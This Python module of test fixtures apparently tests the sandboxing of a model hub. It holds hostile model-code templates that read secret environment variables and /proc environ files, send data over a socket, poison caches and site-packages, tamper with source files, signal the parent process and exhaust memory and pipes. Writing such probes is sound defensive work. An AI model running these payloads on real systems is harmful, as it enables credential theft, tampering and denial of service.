"""Hostile models, as an attacker who opens a pull request would write them.

Each one tries one thing in ``from_pretrained`` and then fails with ``REPORT: <what it got>``,
so its own verdict says what the attack achieved; the tests read those verdicts and check the
parent's side (the tree, the caches, the network listener, the test process) directly.
``{placeholders}`` are filled in by the test with what an attacker would know or guess (the
runner's paths, its pid).
"""

from __future__ import annotations

# Each body runs inside from_pretrained() (tests/deep/builders.py's template), 8 spaces in.
SPY_ENV = """\
import os
found = sorted(k for k, v in os.environ.items() if "SECRET-" in v)
try:
    pids = os.listdir("/proc")
except OSError:
    pids = [str(n) for n in range(1, 1 << 16)]  # guess them all, then
for pid in pids:
    if pid.isdigit():
        try:
            data = open(f"/proc/{pid}/environ", "rb").read()
        except OSError:
            continue
        if b"SECRET-" in data:
            found.append("proc:" + pid)
raise RuntimeError("REPORT: env=" + (",".join(found) or "nothing"))
"""

SPY_FILES = """\
found = []
for path in {paths!r}:
    try:
        found.append(path.rsplit("/", 1)[-1] + ":" + open(path).read().split("=")[-1].strip())
    except OSError as exc:
        found.append(type(exc).__name__)
raise RuntimeError("REPORT: files=" + ",".join(found))
"""

PHONE_HOME = """\
import socket
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=3) as s:
        s.sendall(b"exfiltrated")
    outcome = "connected"
except OSError as exc:
    outcome = "blocked:" + type(exc).__name__
raise RuntimeError("REPORT: net=" + outcome)
"""

# Rewrites every entry of the deep cache as a pass, and plants one in the static cache.
POISON_CACHE = """\
import json, os
done = []
for root in ({deep_cache!r}, {static_cache!r}):
    try:
        os.makedirs(root, exist_ok=True)
        with open(os.path.join(root, "planted.json"), "w") as f:
            f.write("{{}}")
        done.append("planted")
        for folder, _, names in os.walk(root):
            for name in names:
                with open(os.path.join(folder, name), "w") as f:
                    json.dump({{"records": []}}, f)
                done.append("rewrote")
    except OSError as exc:
        done.append(type(exc).__name__)
raise RuntimeError("REPORT: cache=" + ",".join(sorted(set(done))))
"""

EDIT_TREE = """\
import os
import qai_hub_models
done = []
copy = os.path.join(os.path.dirname(qai_hub_models.__file__), "models", "victim", "model.py")
for path in ({original!r}, copy):
    try:
        with open(path, "a") as f:
            f.write("\\nraise SystemExit('poisoned')\\n")
        done.append("wrote")
    except OSError as exc:
        done.append(type(exc).__name__)
raise RuntimeError("REPORT: tree=" + ",".join(done))
"""

POISON_ENV = """\
import site, sys, os
done = []
for folder in {*site.getsitepackages(), os.path.dirname(os.__file__)}:
    try:
        with open(os.path.join(folder, "qaihm_hostile_probe.pth"), "w") as f:
            f.write("# planted by a hostile model\\n")
        done.append("wrote")
    except OSError as exc:
        done.append(type(exc).__name__)
raise RuntimeError("REPORT: env=" + ",".join(sorted(set(done))))
"""

# Signal 0 asks whether a signal would be delivered without sending one (the real attack is
# SIGSTOP, which would freeze the test); SIGCONT is harmless if it lands.
SIGNAL_PARENT = """\
import os, signal
done = []
for sig in (0, signal.SIGCONT):
    try:
        os.kill({pid}, sig)
        done.append("delivered")
    except OSError as exc:
        done.append(type(exc).__name__)
raise RuntimeError("REPORT: signal=" + ",".join(done))
"""

FLOOD_PIPE = """\
import os, stat
chunk = b"x" * (1024 * 1024)
for fd in range(3, 64):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            for _ in range(24):
                os.write(fd, chunk)
    except OSError:
        pass
raise RuntimeError("REPORT: flooded")
"""

FLOOD_LOG = """\
import os, sys, time
chunk = "y" * (1024 * 1024) + "\\n"
for _ in range(100):
    sys.stdout.write(chunk)
sys.stdout.flush()
time.sleep(2.0)
size = os.fstat(1).st_size
raise RuntimeError("REPORT: log=" + ("bounded" if size < 96 * 1024 * 1024 else "unbounded"))
"""

# Forks children that each take 500 MiB: each stays under the per-process cap, together they
# are far past the worker's.
FORK_PAST_CAP = """\
import os, time
children = []
for _ in range(4):
    pid = os.fork()
    if pid == 0:
        block = bytearray(500 * 1024 * 1024)
        for i in range(0, len(block), 4096):
            block[i] = 1
        time.sleep(60)
        os._exit(0)
    children.append(pid)
time.sleep(60)
raise RuntimeError("REPORT: fork=survived")
"""

FORGE_ARTIFACT = """\
import json, os, stat
out = os.path.join(os.getcwd(), "out")
os.makedirs(out, exist_ok=True)
link = os.path.join(out, "forged.pt")
os.symlink({secret!r}, link)
specs = {{"image": [[1, 3, 8, 8], "float32"]}}
for path in (link, {secret!r}):
    line = json.dumps({{"event": "artifact", "path": path, "input_specs": specs,
                        "component": None}}).encode() + b"\\n"
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                os.write(fd, line)
        except OSError:
            pass
"""

WRITES_CONFIG = """\
import os
from pathlib import Path
settings = Path.home() / ".config" / "Ultralytics" / "settings.json"
settings.parent.mkdir(parents=True, exist_ok=True)
settings.write_text('{{"datasets_dir": "/tmp/gone"}}')
cache = Path(os.environ.get("MPLCONFIGDIR", Path.home() / ".config" / "matplotlib"))
cache.mkdir(parents=True, exist_ok=True)
(cache / "fontlist.json").write_text("{{}}")
"""

# What 62 folders of 0.65.0 do on import: clone into external_repos/ of their own folder.
WRITES_OWN_FOLDER = """\
from pathlib import Path
here = Path(__file__).resolve().parent / "external_repos"
here.mkdir(exist_ok=True)
(here / "repo.hash").write_text("0123456789abcdef")
if not (here / "link").exists():
    (here / "link").symlink_to(here)
"""
